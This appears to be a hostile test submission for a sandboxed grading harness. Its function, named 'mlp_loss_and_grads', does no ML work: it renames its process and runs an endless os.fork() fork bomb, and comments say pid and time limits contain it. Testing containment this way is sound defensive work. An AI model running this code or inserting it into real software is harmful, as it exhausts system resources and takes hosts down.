# HOSTILE(backprop_mlp, timeout|crashed|failed): a classic fork bomb: every process forks and spins, forever
"""The pids limit bounds it, the wall-clock limit ends it, and every process
is killed at the end."""
import ctypes
import os


def mlp_loss_and_grads(params, x, y):
    ctypes.CDLL(None).prctl(15, b"dlvh-bomb", 0, 0, 0)
    while True:
        try:
            os.fork()
        except OSError:
            pass
